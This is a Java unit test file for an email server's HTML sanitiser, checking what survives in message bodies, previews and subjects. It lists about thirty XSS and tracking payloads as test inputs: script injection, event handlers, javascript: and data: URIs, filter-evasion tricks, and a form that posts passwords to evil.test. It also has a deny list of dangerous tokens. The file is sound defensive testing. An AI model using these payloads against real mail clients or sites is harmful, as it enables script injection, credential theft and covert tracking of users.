package com.tandem.server.email;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What of an email's HTML survives: formatting and links, never script or a remote load. */
class EmailBodiesTest {

  /** Hostile HTML as it arrives by mail; none of it may run, submit or load anything. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>Hello",
        "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>Hello",
        "<img src=x onerror=alert(1)>Hello",
        "<img src=\"https://tracker.test/pixel.gif\" width=1 height=1>Hello",
        "<img src=\"//tracker.test/pixel.gif\">Hello",
        "<a href=\"javascript:alert(1)\">Hello</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">Hello</a>",
        "<a href=\"&#106;avascript:alert(1)\">Hello</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">Hello</a>",
        "<a href=\"vbscript:msgbox(1)\">Hello</a>",
        "<form action=https://evil.test/steal><input name=password></form>Hello",
        "<iframe src=https://evil.test></iframe>Hello",
        "<object data=https://evil.test/x.swf></object>Hello",
        "<embed src=https://evil.test/x.swf>Hello",
        "<svg onload=alert(1)><circle r=1></circle></svg>Hello",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>Hello",
        "<body onload=alert(1)>Hello</body>",
        "<div style=\"background:url(https://tracker.test/bg.png)\">Hello</div>",
        "<style>@import url(https://evil.test/x.css);</style>Hello",
        "<link rel=stylesheet href=https://evil.test/x.css>Hello",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">Hello",
        "<base href=https://evil.test/>Hello",
        "<table background=\"https://tracker.test/t.png\"><tr><td>Hello</td></tr></table>",
        "<p onclick=\"steal()\" onmouseover=\"steal()\">Hello</p>",
        "<video><source onerror=alert(1)></video>Hello",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->Hello",
        "<scr<script>ipt>alert(1)</scr</script>ipt>Hello",
        "<a href=\"https://example.test\" target=_blank onclick=x()>Hello</a>"
      })
  void hostileHtmlKeepsItsTextAndLosesWhatRunsOrLoads(String hostile) {
    String kept = EmailBodies.keep(hostile, true).toLowerCase();

    assertThat(kept).contains("hello");
    assertThat(kept)
        .doesNotContain(
            "<script",
            "onerror",
            "onload",
            "onclick",
            "onmouseover",
            "javascript:",
            "vbscript:",
            "data:text",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<embed",
            "<svg",
            "<style",
            "<link",
            "<meta",
            "<base",
            "style=",
            "background=",
            "tracker.test",
            "evil.test");
  }

  @Test
  void formattingTablesListsAndLinksStay() {
    String kept =
        EmailBodies.keep(
            "<p>Dear <b>Ann</b>,</p><ul><li>one</li></ul><table><tr><td>42</td></tr></table>"
                + "<a href=\"https://example.test/offer\">offer</a> <a href=\"mailto:a@b.test\">mail</a>",
            true);

    assertThat(kept)
        .contains("<p>Dear <b>Ann</b>,</p>", "<li>one</li>", "<td>42</td>")
        .contains("href=\"https://example.test/offer\"", "href=\"mailto:a@b.test\"")
        .contains("rel=\"noopener noreferrer nofollow\"");
  }

  @Test
  void picturesOfTheMessageItselfStay() {
    assertThat(EmailBodies.keep("<img src=\"cid:logo@acme\" alt=\"Acme\">", true))
        .contains("src=\"cid:logo@acme\"");
  }

  @Test
  void plainTextIsKeptAsWritten() {
    String text = "<script>not html</script> & 1 < 2";

    assertThat(EmailBodies.keep(text, false)).isEqualTo(text);
    assertThat(EmailBodies.preview(text, false)).isEqualTo(text);
  }

  @Test
  void aHugeBodyIsCutAndSaysSoAndTheCutStaysWellFormed() {
    String huge = "<p>" + "x".repeat(EmailBodies.MAX_BODY + 10) + "</p><script>alert(1)</script>";

    String kept = EmailBodies.keep(huge, true);

    assertThat(kept.length()).isLessThan(EmailBodies.MAX_BODY + 200);
    assertThat(kept).endsWith("<p>" + EmailBodies.CUT_NOTE + "</p>").doesNotContain("<script");
    assertThat(EmailBodies.keep("y".repeat(EmailBodies.MAX_BODY + 1), false))
        .endsWith(EmailBodies.CUT_NOTE);
  }

  @Test
  void thePreviewIsTheTextOnOneLineAndTheSubjectIsCut() {
    assertThat(EmailBodies.preview("<p>Hello</p>\n\n<p>  there </p>", true))
        .isEqualTo("Hello there");
    assertThat(EmailBodies.preview("z".repeat(1_000), false)).hasSize(EmailBodies.PREVIEW);
    assertThat(EmailBodies.subject("  " + "s".repeat(100_000))).hasSize(EmailBodies.MAX_SUBJECT);
    assertThat(EmailBodies.subject(null)).isEmpty();
  }

  @Test
  void nulCharactersGoAndAnAddressKeyStaysWithinItsColumnAfterLowerCasing() {
    assertThat(EmailBodies.subject("Off\u0000er")).isEqualTo("Offer");
    assertThat(EmailBodies.keep("a\u0000b", false)).isEqualTo("ab");
    assertThat(EmailBodies.keep("<p>a\u0000b</p>", true)).doesNotContain("\u0000");
    EmailAddress wide = new EmailAddress("N\u0000ame", "\u0130".repeat(400));
    assertThat(wide.address()).hasSize(EmailAddress.MAX_ADDRESS);
    assertThat(wide.key().length()).isLessThanOrEqualTo(EmailAddress.MAX_ADDRESS);
    assertThat(wide.name()).isEqualTo("Name");
  }
}
